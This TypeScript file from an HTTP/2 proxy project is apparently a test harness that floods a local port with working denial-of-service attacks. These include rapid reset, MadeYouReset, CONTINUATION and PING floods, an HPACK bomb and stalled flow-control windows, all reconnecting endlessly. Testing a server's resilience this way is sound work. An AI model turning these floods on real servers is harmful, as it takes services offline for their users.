import { connect } from 'node:net'
import { clientPreface, flag, frame, setting } from '../../proxy/codec/h2-frames.ts'
import {
  block,
  data,
  frameOf,
  get,
  headers,
  ping,
  post,
  reset,
  settings,
  windowUpdate,
} from '../../test/support/h2-peer.ts'

/** Attacks `argv[2]` on port `argv[3]` until it is killed: `connections` at a time, each replaced shortly after it is closed. */

interface Attack {
  /** SETTINGS of the attacker. */
  readonly first?: Buffer
  /** Frames before the flood. */
  readonly begin?: Buffer | undefined
  /** The flood, sent over and over while the peer takes it; `i` counts. Null: it waits. */
  readonly wave: ((i: number) => Buffer) | null
}

const id = (i: number): number => 2 * i + 1
const times = (count: number, make: (i: number) => Buffer) => (wave: number) =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(wave * count + i)))
const filler = block([['x-filler', 'y'.repeat(16_000)]])

/** One entry of 3,900 octets in the table, then references of a byte each. */
const bomb = Buffer.concat([
  block(get()),
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]),
  Buffer.alloc(3_900, 'v'),
  Buffer.alloc(2_000, 0xbe),
])

/** 64 kB of fields, which no limit of ours allows, in frames of the size all allow. */
const largeList = block([
  ...get(),
  ...Array.from({ length: 16 }, () => ['x-filler', 'y'.repeat(4_000)] as const),
])
const inFrames = (stream: number): Buffer =>
  Buffer.concat([
    frameOf(frame.headers, flag.endStream, stream, largeList.subarray(0, 16_000)),
    frameOf(frame.continuation, 0, stream, largeList.subarray(16_000, 32_000)),
    frameOf(frame.continuation, 0, stream, largeList.subarray(32_000, 48_000)),
    frameOf(frame.continuation, 0, stream, largeList.subarray(48_000, 60_000)),
    frameOf(frame.continuation, flag.endHeaders, stream, largeList.subarray(60_000)),
  ])

const attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': {
    wave: times(100, (i) => Buffer.concat([headers(id(i), get('/1k')), reset(id(i), 8)])),
  },
  MadeYouReset: {
    wave: times(100, (i) => Buffer.concat([headers(id(i), get('/1k')), windowUpdate(id(i), 0)])),
  },
  'CONTINUATION flood': {
    begin: frameOf(frame.headers, 0, 1, block(get())),
    wave: () => frameOf(frame.continuation, 0, 1, filler),
  },
  'SETTINGS flood': { wave: times(100, () => settings()) },
  'PING flood': { wave: times(100, ping) },
  'empty DATA flood': { begin: headers(1, post, false), wave: times(100, () => data(1, '')) },
  'PRIORITY flood': {
    wave: times(100, (i) => frameOf(frame.priority, 0, id(i), Buffer.alloc(5))),
  },
  'HPACK bomb': {
    wave: (i) => frameOf(frame.headers, flag.endHeaders | flag.endStream, id(i), bomb),
  },
  'header list size': {
    wave: (i) => inFrames(id(i)),
  },
  'stalled windows': {
    first: settings(setting.initialWindowSize, 0),
    begin: times(100, (i) => headers(id(i), get('/1m')))(0),
    wave: null,
  },
  'window drips': {
    first: settings(setting.initialWindowSize, 1),
    begin: times(10, (i) => headers(id(i), get('/1m')))(0),
    wave: (i) =>
      Buffer.concat(Array.from({ length: 100 }, (_, k) => windowUpdate(id((i + k) % 10), 1))),
  },
}

const connections = 4
const pauseMs = 50

function strike(port: number, { first = settings(), begin, wave }: Attack): void {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true })
  let waves = 0
  const flood = (): void => {
    while (wave !== null && !socket.destroyed && socket.write(wave(waves))) waves += 1
    waves += 1
  }
  socket.on('connect', () => {
    socket.write(clientPreface)
    socket.write(first)
    if (begin !== undefined) socket.write(begin)
    flood()
  })
  socket.on('drain', flood)
  socket.on('data', () => {})
  socket.on('end', () => socket.destroy())
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(strike, pauseMs, port, { first, begin, wave }))
}

/** The names of all attacks, for the program that starts this one. */
export const attackNames: readonly string[] = Object.keys(attacks)

if (import.meta.main) {
  const attack = attacks[process.argv[2] ?? '']
  if (attack === undefined) throw new Error(`no attack ${process.argv[2]}`)
  for (let i = 0; i < connections; i++) strike(Number(process.argv[3]), attack)
}
